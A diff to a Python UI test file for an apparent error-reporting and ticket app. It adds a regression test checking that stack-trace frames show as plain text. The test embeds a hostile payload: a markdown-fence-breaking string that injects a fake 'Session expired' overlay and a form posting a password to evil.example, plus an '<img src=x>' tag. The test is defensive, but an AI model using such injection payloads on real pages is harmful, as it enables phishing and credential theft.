@@ -81,7 +81,7 @@ async def test_ticket_page_shows_error_details_to_staff_live(user: User, people)
     await user.should_see('Error details')
     await user.should_see('shop@2.0.1')
     await user.should_see(marker='error-events', content='1')
-    assert 'shop/cart' not in str(user.find(kind=ui.code).elements)  # frames are shown by module/file name
+    assert 'shop/cart' not in user.find(marker='error-stack').elements.pop().text  # frames shown by module name
     # a page whose socket has not connected yet misses a change (as in a browser): report until one is shown
     shown = False
     for _ in range(20):
@@ -97,6 +97,35 @@ async def test_ticket_page_shows_error_details_to_staff_live(user: User, people)
         except AssertionError:
             continue
     assert shown and count >= 3
+    await error_reports.grouper.stop()
+    error_reports.reset()
+
+
+async def test_a_stack_trace_is_shown_as_text_whatever_its_frames_say(user: User, people) -> None:
+    # the attack (anyone with the source's public DSN): a frame's text closed the markdown fence ``ui.code`` wraps
+    # its content in, and the rest became markup on the agent's page — a full-page "Session expired" overlay and a
+    # form posting a password to another site
+    error_reports.reset()
+    source = await _source(people, 'Web shop')
+    info = await error_reports.source_keys.get(source.public_key)
+    hostile = ('x\n```\n\n<h1 id="pwn" style="position:fixed;inset:0">Session expired</h1>'
+               '<form id="steal" action="https://evil.example/steal"><input name="password"></form>')
+    event = {'exception': {'values': [{'type': 'ValueError', 'value': 'bad', 'stacktrace': {'frames': [
+        {'module': 'shop.cart', 'function': 'checkout', 'lineno': 12, 'in_app': True, 'context_line': hostile},
+        {'module': 'shop.x```<b>', 'function': '<img src=x>', 'lineno': 1}]}}]}}
+    await error_reports.grouper.record(info, ingest.error_event(event))
+    await error_reports.grouper.flush()
+    async with db.session() as s:
+        group = (await s.execute(select(ErrorGroup).where(ErrorGroup.source_id == source.id))).scalar_one()
+        ticket = await s.get(Ticket, group.ticket_id)
+    await login(user, 'ben@pulse.demo')
+    await user.open(f'/tickets/{ticket.reference}')
+    await user.should_see(marker='error-stack')
+    stack = user.find(marker='error-stack').elements.pop()
+    assert isinstance(stack, ui.label) and '<h1 id="pwn"' in stack.text and '<img src=x>' in stack.text  # as text
+    for element in user.client.elements.values():  # nowhere as markup
+        markup = str(element.props.get('innerHTML', '')) + str(getattr(element, 'content', ''))
+        assert '<h1 id="pwn"' not in markup and 'evil.example/steal"' not in markup, element
     await error_reports.grouper.stop()
     error_reports.reset()
 
